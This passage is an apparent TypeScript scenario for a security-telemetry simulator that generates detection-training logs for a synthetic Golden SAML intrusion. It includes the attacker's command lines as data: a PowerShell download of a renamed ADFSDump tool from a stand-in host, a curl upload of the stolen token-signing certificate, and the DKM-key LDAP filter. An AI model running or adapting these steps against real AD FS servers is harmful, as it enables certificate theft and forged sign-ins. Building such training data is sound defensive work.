/**
 * Golden SAML (a third incident on the same tenant, federated through AD FS): with an IT admin's
 * stolen credentials the intruder comes in over the VPN, RDPs to the AD FS server, drops a renamed
 * AD FS dumping tool, reads the configuration database over its named pipe and the DKM key from
 * Active Directory, exports the token-signing certificate and uploads it. That evening, tokens
 * signed with it open the CFO's mailbox (no AD FS issuance behind those sign-ins), and at night the
 * admin's forged identity adds a credential to a service principal that the intruder then signs
 * in with. Every federated sign-in of the tenant otherwise has its AD FS token issuance. Every
 * identifier is synthetic.
 */
import { boot } from '../background.ts';
import { generate, type Incident } from '../generate.ts';
import { writeFederatedIssuance, writeIdentityAndCloud } from '../identity.ts';
import { IMG, type Img } from '../images.ts';
import { guidOf, hexOf } from '../rng.ts';
import { ANALYST, APPS, type AlertDef, type DeviceDef, POLICIES, type ScenarioPolicies, type SignInAttempt, TENANT, type UserDef, domainSid } from '../model.ts';
import { DAY, HOUR, MIN, SEC, T } from '../time.ts';
import type { Acct, Proc, Sinks } from '../world.ts';
import type { Scenario, ScriptStep } from './types.ts';

const DAY0 = '2024-07-08';
const DAY1 = '2024-07-09';
const DAY2 = '2024-07-10';
const DAY3 = '2024-07-11';
const D1 = (t: string) => T(`${DAY1}T${t}`);
const D2 = (t: string) => T(`${DAY2}T${t}`);
const Z1 = (t: string) => `${DAY1}T${t}Z`;
const Z2 = (t: string) => `${DAY2}T${t}Z`;

const DOMAIN_DN = 'DC=corp,DC=contoso,DC=example';
const FARM = { farm: 'sts.contoso.example', server: 'adfs01.corp.contoso.example', wap: 'wap01', netbios: 'CORP' };
const DC = { name: 'dc01.corp.contoso.example', ip: '10.20.0.5' };

const DANA: UserDef = {
  key: 'dana',
  displayName: 'Dana Whitfield',
  upn: 'dana.whitfield@contoso.example',
  objectId: guidOf('golden-saml:user:dana'),
  cloudSid: 'S-1-12-1-1726843518-1329817394-3177315466-2883413573',
  accountName: 'dana.whitfield',
  onPremSid: domainSid(1310),
  department: 'IT',
  jobTitle: 'Identity Administrator',
};
const CHRIS: UserDef = {
  key: 'chris',
  displayName: 'Chris Novak',
  upn: 'chris.novak@contoso.example',
  objectId: guidOf('golden-saml:user:chris'),
  cloudSid: 'S-1-12-1-3990510119-1201960913-2421478052-1094418837',
  accountName: 'chris.novak',
  onPremSid: domainSid(1188),
  department: 'Finance',
  jobTitle: 'Chief Financial Officer',
};
/** Dana's separate on-premises admin account (Domain Admins), the one the intruder stole. */
const ADMIN: Acct = { domain: 'corp', name: 'adm.dwhitfield', sid: domainSid(1311), upn: '', objectId: '' };
/** The AD FS service's group managed service account. */
const GMSA: Acct = { domain: 'corp', name: 'gmsa-adfs$', sid: domainSid(1402), upn: '', objectId: '' };

const IT: DeviceDef = {
  key: 'IT',
  name: 'win11-it04.corp.contoso.example',
  deviceId: hexOf('golden-saml:device:it', 40),
  aadDeviceId: guidOf('golden-saml:aad:it'),
  localIp: '10.20.0.58',
  publicIp: '198.51.100.40',
  joinType: 'Hybrid Azure AD Join',
  user: 'dana',
  osPlatform: 'Windows11',
  osBuild: 22631,
  osVersionInfo: '23H2',
  model: 'EliteBook 840 G10',
  vendor: 'HP',
  machineGroup: 'IT',
};
const CFO: DeviceDef = {
  key: 'CFO',
  name: 'win11-fin01.corp.contoso.example',
  deviceId: hexOf('golden-saml:device:cfo', 40),
  aadDeviceId: guidOf('golden-saml:aad:cfo'),
  localIp: '10.20.0.61',
  publicIp: '198.51.100.40',
  joinType: 'Hybrid Azure AD Join',
  user: 'chris',
  osPlatform: 'Windows11',
  osBuild: 22631,
  osVersionInfo: '23H2',
  model: 'Surface Laptop 5',
  vendor: 'Microsoft Corporation',
  machineGroup: 'Finance',
};
const ADFS: DeviceDef = {
  key: 'ADFS',
  name: FARM.server,
  deviceId: hexOf('golden-saml:device:adfs', 40),
  aadDeviceId: guidOf('golden-saml:aad:adfs'),
  localIp: '10.20.0.10',
  publicIp: '198.51.100.40',
  joinType: 'Domain Joined',
  user: 'dana',
  osPlatform: 'WindowsServer2019',
  osBuild: 17763,
  osVersionInfo: '1809',
  model: 'Virtual Machine',
  vendor: 'Microsoft Corporation',
  machineGroup: 'Tier 0 servers',
  exposureLevel: 'High',
};

const VPN_IP = '10.30.0.14';
const ATTACKER = { ip: '192.0.2.14', location: { city: 'Frankfurt am Main', state: 'Hessen', countryOrRegion: 'DE', lat: 50.11, lon: 8.68 }, ua: 'Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0' };
const STAGING = { ip: '203.0.113.23', url: 'files.tailwind-share.example' };
const DROP = { ip: '192.0.2.31', url: 'paste.drop-relay.example' };
const LIB = 'C:\\Users\\Public\\Libraries\\';
const PIPE = '\\Device\\NamedPipe\\MICROSOFT##WID\\tsql\\query';
const DKM_BASE = `CN=ADFS,CN=Microsoft,CN=Program Data,${DOMAIN_DN}`;
const DKM_FILTER = '(&(thumbnailphoto=*)(objectClass=contact)(!(cn=CryptoPolicy)))';
const PFX = 'adfs_tsc.pfx';
/** Schema GUIDs in a directory-service access audit (4662): the contact class and the thumbnailPhoto attribute. */
const CONTACT_CLASS = '5cb41ed0-0e4c-11d0-a286-00aa003049e2';
const THUMBNAIL_PHOTO = '8d3bca50-1d7e-11d0-a081-00aa006c33ed';
/** The DKM contact object under CN=ADFS (its objectGUID). */
const DKM_OBJECT = guidOf('golden-saml:dkm-contact');
const RULE = { name: 'RSS sync', folder: 'RSS Subscriptions', words: 'wire;invoice;payment;bank details' };
const HR_SYNC = { name: 'Contoso HR Sync', appId: '7a3d2f5e-6b1c-4e8f-9a0b-1c2d3e4f5a6b' };
const MAIL_READS = 18;
/** The intruder's sign-ins as the service principal (with the added credential). */
const SP_TIMES = [D2('02:21:09'), D2('02:48:33'), D2('14:02:50'), D2('23:11:04'), T(`${DAY3}T03:40:27`), T(`${DAY3}T09:15:58`), T(`${DAY3}T10:52:13`)];
const NOW = '2024-07-12T00:30:00Z';

const SERVICEHOST: Img = { ...IMG.cmd, name: 'Microsoft.IdentityServer.ServiceHost.exe', path: 'C:\\Windows\\ADFS\\Microsoft.IdentityServer.ServiceHost.exe', sha1: hexOf('sha1:c:\\windows\\adfs\\microsoft.identityserver.servicehost.exe', 40), sha256: hexOf('sha256:c:\\windows\\adfs\\microsoft.identityserver.servicehost.exe', 64), md5: hexOf('md5:c:\\windows\\adfs\\microsoft.identityserver.servicehost.exe', 32), size: 32120, description: 'Microsoft.IdentityServer.ServiceHost', original: 'Microsoft.IdentityServer.ServiceHost.exe', internal: 'Microsoft.IdentityServer.ServiceHost', product: 'Microsoft® Windows® Operating System', version: '10.0.17763.5830' };
const TOOL: Img = { ...IMG.cmd, name: 'fsdiag.exe', path: `${LIB}fsdiag.exe`, sha1: hexOf('golden-saml:sha1:fsdiag', 40), sha256: hexOf('golden-saml:sha256:fsdiag', 64), md5: hexOf('golden-saml:md5:fsdiag', 32), size: 30208, company: '', product: 'ADFSDump', description: 'ADFSDump', original: 'ADFSDump.exe', internal: 'ADFSDump', version: '1.0.0.0', signer: '', alwaysSha256: true };
const CURL: Img = { ...IMG.cmd, name: 'curl.exe', path: 'C:\\Windows\\System32\\curl.exe', sha1: hexOf('sha1:c:\\windows\\system32\\curl.exe', 40), sha256: hexOf('sha256:c:\\windows\\system32\\curl.exe', 64), md5: hexOf('md5:c:\\windows\\system32\\curl.exe', 32), size: 4990464, description: 'The curl executable', original: 'curl.exe', internal: 'curl' };

const MDE = 'Microsoft Defender for Endpoint';
const MDI = 'Microsoft Defender for Identity';
// Triage went wrong on Day 1: both alerts were closed as admin maintenance; Day 3 reopened the case.
const closed = (t: string) => ({ inProgressAt: D1('10:40:00'), resolvedAt: D1(t), classification: 'FalsePositive', determination: 'Clean', assignedTo: ANALYST, comment: 'AD FS maintenance by IT (adm.dwhitfield) - confirmed by ticket' });
const ALERTS: AlertDef[] = [
  { key: 'G1', alertId: 'da638560587310000001_-1207733491', time: D1('10:05:52'), title: 'Suspicious access to the AD FS configuration database', category: 'CredentialAccess', severity: 'High', serviceSource: MDE, detectionSource: 'EDR', techniques: ['Unsecured Credentials: Private Keys (T1552.004)', 'Forge Web Credentials: SAML Tokens (T1606.002)'], deviceKey: 'ADFS', ...closed('11:02:00') },
  { key: 'G2', alertId: 'ae0b33c1d2e44f6a8b7c9d0e1f2a3b4c', time: D1('10:06:40'), title: 'Suspected AD FS DKM key read', category: 'CredentialAccess', severity: 'High', serviceSource: MDI, detectionSource: 'Microsoft Defender for Identity', techniques: ['Unsecured Credentials: Private Keys (T1552.004)'], deviceKey: 'ADFS', ...closed('11:02:30') },
];

const MACHINE_ACTIONS = [
  { id: guidOf('golden-saml:action:package'), type: 'CollectInvestigationPackage', title: 'Collect investigation package', scope: '', comment: 'Golden SAML investigation: AD FS server', steps: [['Pending', T(`${DAY3}T13:12:00`)], ['InProgress', T(`${DAY3}T13:12:40`)], ['Succeeded', T(`${DAY3}T13:21:15`)]] },
] as { id: string; type: string; title: string; scope: string; comment: string; steps: [string, number][] }[];

/** Sign-ins with tokens signed by the stolen certificate: federated, MFA claimed in the token, no AD FS issuance. */
const forged = (t: number, user: 'chris' | 'dana', client: SignInAttempt['client'], resource: SignInAttempt['resource'], corr: string, risk?: SignInAttempt['risk']): SignInAttempt => ({
  time: t,
  user,
  device: '',
  client,
  resource,
  clientAppUsed: 'Browser',
  session: `forged-${user}`,
  ip: ATTACKER.ip,
  userAgent: ATTACKER.ua,
  tokenIssuerType: 1,
  location: ATTACKER.location,
  mfaByClaim: true,
  correlationId: guidOf(`golden-saml:corr:${corr}`),
  ...(risk ? { risk } : {}),
});
/** Identity Protection flags each user's first sign-in from the intruder's address, browser and network as unfamiliar. */
const UNFAMILIAR: SignInAttempt['risk'] = { level: 'medium', types: ['unfamiliarFeatures'] };
const FORGED: SignInAttempt[] = [
  forged(D1('21:14:05'), 'chris', 'owa', 'exchange', 'chris-1', UNFAMILIAR),
  forged(D1('21:16:40'), 'chris', 'officeHome', 'sharepoint', 'chris-2'),
  forged(D1('22:02:11'), 'chris', 'owa', 'exchange', 'chris-3'),
  forged(D2('02:03:22'), 'dana', 'portal', 'azureManagement', 'dana-1', UNFAMILIAR),
  forged(D2('02:05:57'), 'dana', 'portal', 'graph', 'dana-2'),
  forged(D2('19:47:30'), 'chris', 'owa', 'exchange', 'chris-4'),
];
const FORGED_IDS = new Set(FORGED.map((a) => a.correlationId!));

const POLICIES_GS: ScenarioPolicies = {
  ...POLICIES,
  ca: [
    {
      id: guidOf('golden-saml:ca:office'),
      displayName: 'CA10 - Office 365: require MFA',
      state: 'enabled',
      includeApplications: [APPS.exchange.id, APPS.sharepoint.id, APPS.teams.id, APPS.graph.id],
      clientAppTypes: ['browser', 'mobileAppsAndDesktopClients'],
      operator: 'OR',
      builtInControls: ['mfa'],
    },
    {
      id: guidOf('golden-saml:ca:admin'),
      displayName: 'CA11 - Azure management: require MFA',
      state: 'enabled',
      includeApplications: [APPS.azureManagement.id],
      clientAppTypes: ['browser', 'mobileAppsAndDesktopClients'],
      operator: 'OR',
      builtInControls: ['mfa'],
    },
  ],
};

function alertRows(sinks: Sinks, a: AlertDef, evidence: Record<string, unknown>[]): void {
  const common = { Timestamp: a.time, AlertId: a.alertId, Title: a.title, ServiceSource: a.serviceSource, DetectionSource: a.detectionSource, AttackTechniques: JSON.stringify(a.techniques), Severity: a.severity };
  sinks.AlertInfo.add({ ...common, Category: a.category });
  for (const e of [{ EntityType: 'Machine', EvidenceRole: 'Impacted', DeviceId: ADFS.deviceId, DeviceName: ADFS.name }, ...evidence]) sinks.AlertEvidence.add({ ...common, Categories: JSON.stringify([a.category]), ...e });
}

/** When the AD FS service host started (its process creation on the AD FS server). */
function serviceStart(sinks: Sinks): number | undefined {
  const p = sinks.DeviceProcessEvents.kept('adfs-service');
  for (let i = 0; i < p.length; i++) {
    if (p.get(i, 'DeviceId') === ADFS.deviceId && p.get(i, 'FileName') === SERVICEHOST.name) return p.get(i, 'Timestamp') as number;
  }
  return undefined;
}

/** Event 4662 on the DC: a read of the DKM contact's thumbnailPhoto attribute (where AD FS keeps the DKM key). */
function dkmRead(t: number, who: Acct, logonId: string, record: number) {
  return {
    Account: `CORP\\${who.name}`,
    AccountType: who.name.endsWith('$') ? 'Machine' : 'User',
    AccessMask: '0x10',
    Activity: '4662 - An operation was performed on an object.',
    AdditionalInfo: '-',
    Channel: 'Security',
    Computer: DC.name,
    EventData: `<EventData><Data Name="SubjectUserSid">${who.sid}</Data><Data Name="SubjectUserName">${who.name}</Data><Data Name="SubjectDomainName">CORP</Data><Data Name="SubjectLogonId">${logonId}</Data><Data Name="ObjectServer">DS</Data><Data Name="ObjectType">%{${CONTACT_CLASS}}</Data><Data Name="ObjectName">%{${DKM_OBJECT}}</Data><Data Name="OperationType">Object Access</Data><Data Name="HandleId">0x0</Data><Data Name="AccessList">%%7684</Data><Data Name="AccessMask">0x10</Data><Data Name="Properties">%%7684 {${THUMBNAIL_PHOTO}} {${CONTACT_CLASS}}</Data><Data Name="AdditionalInfo">-</Data><Data Name="AdditionalInfo2"></Data></EventData>`,
    EventID: 4662,
    EventRecordId: String(record),
    EventSourceName: 'Microsoft-Windows-Security-Auditing',
    HandleId: '0x0',
    Level: '8',
    ObjectName: `%{${DKM_OBJECT}}`,
    ObjectServer: 'DS',
    ObjectType: `%{${CONTACT_CLASS}}`,
    OperationType: 'Object Access',
    Properties: `%%7684\n\t\t{${THUMBNAIL_PHOTO}}\n\t{${CONTACT_CLASS}}\n`,
    SourceSystem: 'OpsManager',
    SubjectAccount: `CORP\\${who.name}`,
    SubjectDomainName: 'CORP',
    SubjectLogonId: logonId,
    SubjectUserName: who.name,
    SubjectUserSid: who.sid,
    TenantId: TENANT.tenantId,
    TimeGenerated: t,
    Type: 'SecurityEvent',
  };
}

/** A Defender for Cloud Apps row of the intruder's activity in Chris's mailbox. */
function mailboxRow(t: number, op: string, raw: Record<string, unknown>, activity: string) {
  return {
    Timestamp: t,
    ActionType: op,
    Application: 'Microsoft Exchange Online',
    ApplicationId: 20893,
    AppInstanceId: 0,
    AccountObjectId: CHRIS.objectId,
    AccountId: CHRIS.objectId,
    AccountDisplayName: CHRIS.displayName,
    IsAdminOperation: false,
    DeviceType: 'Desktop',
    OSPlatform: 'Linux',
    IPAddress: ATTACKER.ip,
    IsAnonymousProxy: false,
    CountryCode: ATTACKER.location.countryOrRegion,
    City: ATTACKER.location.city,
    Isp: 'Example Hosting GmbH',
    UserAgent: ATTACKER.ua,
    ActivityType: activity,
    ActivityObjects: [{ Type: 'Mailbox', Name: CHRIS.upn, Id: CHRIS.objectId, Role: 'Target object' }],
    ObjectName: CHRIS.upn,
    ObjectType: 'Mailbox',
    ObjectId: CHRIS.objectId,
    AccountType: 'Regular',
    IsExternalUser: false,
    IsImpersonated: false,
    IPTags: [],
    IPCategory: 'Hosting',
    UserAgentTags: [],
    RawEventData: { Operation: op, UserId: CHRIS.upn, ClientIP: ATTACKER.ip, Workload: 'Exchange', ...raw },
    AdditionalFields: { IsSensitive: false },
    LastSeenForUser: { ISP: -1, CountryCode: -1, UserAgent: -1 },
    UncommonForUser: ['ISP', 'CountryCode', 'UserAgent'],
    AuditSource: 'Defender for Cloud Apps app connector',
    SessionData: { InLineSessionId: '' },
    OAuthAppId: '',
  };
}

const incident: Incident = {
  tenant: TENANT,
  day0: DAY0,
  analyst: ANALYST,
  users: [DANA, CHRIS],
  routineSignIns: [DANA, CHRIS],
  devices: [
    { def: IT, user: 'dana' },
    { def: CFO, user: 'chris' },
    // a tier-0 server: no Intune compliance policy, nobody logs on interactively
    { def: ADFS, user: 'dana', intunePolicy: false },
  ],
  boot: (dev, em, days) => (dev.def.key === 'ADFS' ? boot(dev, em, days[0] + 1 * HOUR + 48 * MIN) : undefined),
  logon: (dev) => (dev.def.key === 'ADFS' ? null : undefined),
  keep: (sinks) =>
    sinks.DeviceProcessEvents.keep('adfs-service', ['DeviceId', 'FileName', 'Timestamp'], (get) => get('DeviceId') === ADFS.deviceId && get('FileName') === SERVICEHOST.name),
  run({ em, sinks, devByKey, boots }) {
    const adfs = devByKey.get('ADFS')!;
    const b = boots.get('ADFS')!;
    const r = adfs.rng.fork('adfs-service');
    const day0 = T(`${DAY0}T00:00:00`);
    // the AD FS service: its host process, its database pipe and its directory lookups, every day
    const host = adfs.spawn(b.services, SERVICEHOST, b.services.created + 41 * SEC, 'C:\\Windows\\ADFS\\Microsoft.IdentityServer.ServiceHost.exe', { acct: GMSA, logonId: 998, integrity: 'System', elevation: 'TokenElevationTypeDefault', session: 0 });
    em.process(host);
    for (let k = 0; k < 4; k++) {
      const n = r.int(3, 6);
      for (let i = 0; i < n; i++) {
        const t = day0 + k * DAY + r.int(0, 86399) * SEC + r.int(0, 999) * 1000;
        if (t <= host.created) continue;
        em.event(t, host, 'NamedPipeEvent', { AdditionalFields: { PipeName: PIPE, FileOperation: 'File opened', NamedPipeEnd: 'Client', DesiredAccess: 1180063, ThreadId: r.int(1000, 9000) } });
      }
      const m = r.int(5, 12);
      for (let i = 0; i < m; i++) {
        const t = day0 + k * DAY + r.int(6 * 3600, 20 * 3600) * SEC + r.int(0, 999) * 1000;
        if (t <= host.created) continue;
        const who = r.pick(['svc-backup', 'scanner01', 'dana.whitfield', 'chris.novak', 'helpdesk01', 'svc-print']);
        em.event(t, host, 'LdapSearch', { AdditionalFields: { SearchFilter: `(&(objectClass=user)(sAMAccountName=${who}))`, DistinguishedName: DOMAIN_DN, AttributeList: ['tokenGroups', 'userPrincipalName', 'objectSid'], ScopeOfSearch: 'SubTree' } });
      }
    }
    // 10:02 the stolen admin account over RDP from a VPN address
    const lsass = b.lsass;
    const admin = { acct: ADMIN, logonId: 7734521, integrity: 'High', elevation: 'TokenElevationTypeFull', session: 2 } as const;
    em.logon(D1('10:02:41.310'), lsass, 'LogonSuccess', { LogonType: 'RemoteInteractive', AccountDomain: 'corp', AccountName: ADMIN.name, AccountSid: ADMIN.sid, RemoteIP: VPN_IP, RemoteIPType: 'Private', RemoteDeviceName: '', Protocol: 'Negotiate', LogonId: admin.logonId, IsLocalAdmin: true });
    const userinit = adfs.spawn(b.winlogon, IMG.userinit, D1('10:02:43.004'), 'C:\\Windows\\system32\\userinit.exe', { ...admin, pid: 6412 });
    em.process(userinit);
    const explorer = adfs.spawn(userinit, IMG.explorer, D1('10:02:43.730'), 'C:\\Windows\\Explorer.EXE', { ...admin, pid: 6480 });
    em.process(explorer);
    // 10:04 PowerShell fetches the tool
    const ps = adfs.spawn(explorer, IMG.powershell, D1('10:04:05.220'), `"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -nop -c "Invoke-WebRequest -Uri https://${STAGING.url}/d/fsdiag.exe -OutFile ${LIB}fsdiag.exe"`, { ...admin, pid: 7020 });
    em.process(ps);
    em.network(D1('10:04:06.482'), ps, 'ConnectionSuccess', { RemoteIP: STAGING.ip, RemotePort: 443, RemoteUrl: STAGING.url, LocalIP: ADFS.localIp, LocalPort: 51544, Protocol: 'Tcp', RemoteIPType: 'Public', LocalIPType: 'Private' });
    em.file(D1('10:04:09.117'), ps, 'FileCreated', { FileName: TOOL.name, FolderPath: TOOL.path, SHA1: TOOL.sha1, SHA256: TOOL.sha256, MD5: TOOL.md5, FileSize: TOOL.size });
    // 10:05 the tool: configuration database over the WID pipe, DKM key over LDAP, certificate to a file
    const ps2 = adfs.spawn(explorer, IMG.powershell, D1('10:05:21.640'), '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"', { ...admin, pid: 7188 });
    em.process(ps2);
    const tool = adfs.spawn(ps2, TOOL, D1('10:05:30.004'), `"${TOOL.path}" /domain:corp.contoso.example /server:${DC.name}`, { ...admin, pid: 7304 });
    em.process(tool);
    em.event(D1('10:05:30.912'), tool, 'NamedPipeEvent', { AdditionalFields: { PipeName: PIPE, FileOperation: 'File opened', NamedPipeEnd: 'Client', DesiredAccess: 1180063, ThreadId: 7340 } });
    em.event(D1('10:05:31.606'), tool, 'LdapSearch', { AdditionalFields: { SearchFilter: DKM_FILTER, DistinguishedName: DKM_BASE, AttributeList: ['thumbnailphoto'], ScopeOfSearch: 'SubTree' } });
    em.network(D1('10:05:31.598'), tool, 'ConnectionSuccess', { RemoteIP: DC.ip, RemotePort: 389, RemoteUrl: '', LocalIP: ADFS.localIp, LocalPort: 51602, Protocol: 'Tcp', RemoteIPType: 'Private', LocalIPType: 'Private' });
    em.file(D1('10:06:02.470'), ps2, 'FileCreated', { FileName: PFX, FolderPath: `${LIB}${PFX}`, SHA1: hexOf('golden-saml:pfx', 40), SHA256: hexOf('golden-saml:pfx256', 64), FileSize: 2710 });
    // 10:07 the certificate leaves with curl; 10:09 clean-up
    const curl = adfs.spawn(ps2, CURL, D1('10:07:14.380'), `curl.exe  -s -F "f=@${LIB}${PFX}" https://${DROP.url}/u`, { ...admin, pid: 7412 });
    em.process(curl);
    em.network(D1('10:07:15.021'), curl, 'ConnectionSuccess', { RemoteIP: DROP.ip, RemotePort: 443, RemoteUrl: DROP.url, LocalIP: ADFS.localIp, LocalPort: 51631, Protocol: 'Tcp', RemoteIPType: 'Public', LocalIPType: 'Private' });
    em.file(D1('10:09:40.233'), ps2, 'FileDeleted', { FileName: PFX, FolderPath: `${LIB}${PFX}`, SHA1: hexOf('golden-saml:pfx', 40), FileSize: 2710 });
    em.file(D1('10:09:40.551'), ps2, 'FileDeleted', { FileName: TOOL.name, FolderPath: TOOL.path, SHA1: TOOL.sha1, SHA256: TOOL.sha256, FileSize: TOOL.size });
    em.logon(D1('10:11:58.004'), lsass, 'LogonSuccess', { LogonType: 'Unlock', AccountDomain: 'corp', AccountName: ADMIN.name, AccountSid: ADMIN.sid, RemoteIP: VPN_IP, RemoteIPType: 'Private', Protocol: 'Negotiate', LogonId: admin.logonId + 17, IsLocalAdmin: true });
    // alerts and their evidence
    const pe = (p: Proc) => ({ EntityType: 'Process', EvidenceRole: 'Related', FileName: p.img.name, FolderPath: p.img.path, SHA1: p.img.sha1, SHA256: p.img.sha256, ProcessCommandLine: p.cmd, DeviceId: ADFS.deviceId, DeviceName: ADFS.name, AdditionalFields: { ProcessId: p.pid, CreationTimeUtc: new Date(Math.floor(p.created / 1000)).toISOString() } });
    const acct = { EntityType: 'User', EvidenceRole: 'Impacted', AccountName: ADMIN.name, AccountDomain: 'corp', AccountSid: ADMIN.sid };
    alertRows(sinks, ALERTS[0], [pe(tool), acct]);
    alertRows(sinks, ALERTS[1], [acct, { EntityType: 'Machine', EvidenceRole: 'Related', DeviceName: DC.name }]);
  },
  alerts: ALERTS,
  checkins: {},
  signins: FORGED,
  // the MFA claim inside the forged tokens
  mfaEvents: FORGED.map((a) => ({ session: a.session, time: a.time })),
  machineActions: MACHINE_ACTIONS,
  responseDevice: 'ADFS',
  isolation: [],
  federation: FARM.farm,
  federated: () => true,
  finish(c) {
    const { sinks } = c;
    writeIdentityAndCloud(c, {
      tenant: TENANT,
      now: NOW,
      dc: DC,
      users: [DANA, CHRIS],
      hybrid: () => true,
      // nobody logs on to the AD FS server interactively: no daily Kerberos logon there
      kerberosLogon: (d) => (d.def.key === 'ADFS' ? null : undefined),
      roles: (u) => (u === DANA ? ['Global Administrator'] : u === CHRIS ? [] : u.department === 'IT' ? ['Helpdesk Administrator'] : []),
      cloudActivity: (res) => !FORGED_IDS.has(res.correlationId),
      adfs(cx) {
        writeFederatedIssuance(cx, FARM, FORGED_IDS);
        // Defender for Identity on the DC: the admin's Kerberos ticket for the AD FS server and the DKM read
        const who = { AccountName: ADMIN.name, AccountDomain: 'corp.contoso.example', AccountUpn: '', AccountSid: ADMIN.sid, AccountObjectId: '', AccountDisplayName: 'Dana Whitfield (admin)' };
        sinks.IdentityLogonEvents.add({ Timestamp: D1('10:02:40.870'), ActionType: 'LogonSuccess', Application: 'Active Directory', LogonType: 'Resource access', Protocol: 'Kerberos', FailureReason: '', ...who, DeviceName: '', DeviceType: '', OSPlatform: '', IPAddress: VPN_IP, Port: 50912, DestinationDeviceName: DC.name, DestinationIPAddress: DC.ip, DestinationPort: 88, TargetDeviceName: ADFS.name, TargetAccountDisplayName: '', Location: '', Isp: '', AdditionalFields: { Spns: `TERMSRV/${ADFS.name}`, Count: 1 } });
        // the DC's own audit of reads of the DKM contact (a SACL on the container): the AD FS service
        // reads the key when it starts; the tool read it at 10:05
        const start = serviceStart(sinks);
        if (start) sinks.SecurityEvent.add(dkmRead(start + 2 * SEC + 310_000, GMSA, '0x3e4a1f', 880_102));
        sinks.SecurityEvent.add(dkmRead(D1('10:05:31.652'), ADMIN, '0x8b2c07', 1_203_877));
        sinks.IdentityQueryEvents.add({ Timestamp: D1('10:05:31.640'), ActionType: 'LDAP query', Application: 'Active Directory', QueryType: 'AllObjects', QueryTarget: DKM_BASE, Query: DKM_FILTER, Protocol: 'Ldap', ...who, DeviceName: ADFS.name, IPAddress: ADFS.localIp, Port: 51602, DestinationDeviceName: DC.name, DestinationIPAddress: DC.ip, DestinationPort: 389, TargetDeviceName: '', TargetAccountUpn: '', TargetAccountDisplayName: '', Location: '', AdditionalFields: { AttributeList: ['thumbnailphoto'], SourceComputerOperatingSystem: 'WindowsServer2019' } });
      },
    });
    // Identity Protection: the real-time detections behind the risky forged sign-ins
    for (const a of FORGED.filter((x) => x.risk)) {
      const res = c.results.find((x) => x.correlationId === a.correlationId)!;
      const u = a.user === 'chris' ? CHRIS : DANA;
      sinks.AADUserRiskEvents.add({
        Activity: 'signin',
        ActivityDateTime: res.time,
        AdditionalInfo: [{ Key: 'userAgent', Value: ATTACKER.ua }, { Key: 'alertUrl', Value: null }],
        CorrelationId: res.correlationId,
        DetectedDateTime: res.time,
        DetectionTimingType: 'realtime',
        Id: hexOf(`golden-saml:risk:${res.correlationId}`, 64),
        IpAddress: ATTACKER.ip,
        LastUpdatedDateTime: res.time + 4 * MIN,
        Location: { city: ATTACKER.location.city, state: ATTACKER.location.state, countryOrRegion: ATTACKER.location.countryOrRegion, geoCoordinates: { latitude: ATTACKER.location.lat, longitude: ATTACKER.location.lon } },
        OperationName: 'User Risk Detection',
        RequestId: guidOf(`req:${res.correlationId}:${res.time}`),
        RiskDetail: 'none',
        RiskEventType: a.risk!.types[0],
        RiskLevel: a.risk!.level,
        RiskState: 'atRisk',
        Source: 'IdentityProtection',
        SourceSystem: 'Azure AD',
        TenantId: TENANT.tenantId,
        TimeGenerated: res.time + 4 * MIN,
        TokenIssuerType: 'ADFederationServices',
        Type: 'AADUserRiskEvents',
        UserDisplayName: u.displayName,
        UserId: u.objectId,
        UserPrincipalName: u.upn,
      });
    }
    // the intruder in Chris's mailbox: a rule that hides payment mail, then reading
    sinks.CloudAppEvents.add(mailboxRow(D1('21:19:48'), 'New-InboxRule', { Parameters: [{ Name: 'Name', Value: RULE.name }, { Name: 'SubjectOrBodyContainsWords', Value: RULE.words }, { Name: 'MoveToFolder', Value: RULE.folder }, { Name: 'StopProcessingRules', Value: 'True' }] }, 'Edit'));
    const reads = [D1('21:15:02'), D1('21:23:40'), D1('22:03:05'), D2('19:48:12')];
    for (let i = 0; i < MAIL_READS; i++) {
      const t = reads[i % reads.length] + Math.floor(i / reads.length) * 97 * SEC + (i % 7) * 1_300_000;
      sinks.CloudAppEvents.add(mailboxRow(t, 'MailItemsAccessed', { MailAccessType: 'Bind', Folders: [{ Path: i % 3 === 0 ? '\\Sent Items' : '\\Inbox', FolderItems: [{ InternetMessageId: `<${hexOf(`golden-saml:mail:${i}`, 20)}@contoso.example>` }] }] }, 'Read'));
    }
    // persistence: a credential on the HR sync service principal, then sign-ins with it
    const addAt = D2('02:07:31');
    sinks.AuditLogs.add({
      AADOperationType: 'Update',
      AADTenantId: TENANT.tenantId,
      ActivityDateTime: addAt,
      ActivityDisplayName: 'Add service principal credentials',
      AdditionalDetails: [{ key: 'User-Agent', value: ATTACKER.ua }, { key: 'AppId', value: HR_SYNC.appId }],
      Category: 'ApplicationManagement',
      CorrelationId: guidOf('golden-saml:audit:spcred'),
      DurationMs: 0,
      Id: `Directory_${guidOf('golden-saml:audit:spcred:id')}`,
      Identity: DANA.displayName,
      InitiatedBy: { user: { id: DANA.objectId, displayName: null, userPrincipalName: DANA.upn, ipAddress: ATTACKER.ip }, app: null },
      Level: 'Informational',
      Location: 'EU',
      LoggedByService: 'Core Directory',
      OperationName: 'Add service principal credentials',
      OperationVersion: '1.0',
      Resource: 'Microsoft.aadiam',
      ResourceGroup: 'Microsoft.aadiam',
      ResourceId: `/tenants/${TENANT.tenantId}/providers/Microsoft.aadiam`,
      ResourceProvider: 'Microsoft.aadiam',
      Result: 'success',
      ResultDescription: '',
      ResultReason: '',
      ResultSignature: 'None',
      ResultType: '',
      SourceSystem: 'Azure AD',
      TargetResources: [{ id: guidOf(`spid:${HR_SYNC.appId}`), displayName: HR_SYNC.name, type: 'ServicePrincipal', userPrincipalName: null, modifiedProperties: [{ displayName: 'KeyDescription', oldValue: '[]', newValue: `["[KeyIdentifier=${guidOf('golden-saml:key')},KeyType=Password,KeyUsage=Verify,DisplayName=sync]"]` }, { displayName: 'Included Updated Properties', oldValue: null, newValue: '"KeyDescription"' }] }],
      TimeGenerated: addAt,
      Type: 'AuditLogs',
      TenantId: TENANT.tenantId,
    });
    for (const [i, t] of SP_TIMES.entries()) {
      sinks.AADSpnSignInEventsBeta.add({
        Timestamp: t,
        Application: HR_SYNC.name,
        ApplicationId: HR_SYNC.appId,
        IsManagedIdentity: false,
        ErrorCode: 0,
        CorrelationId: guidOf(`golden-saml:spn:${i}`),
        ServicePrincipalName: HR_SYNC.name,
        ServicePrincipalId: guidOf(`spid:${HR_SYNC.appId}`),
        ResourceDisplayName: 'Microsoft Graph',
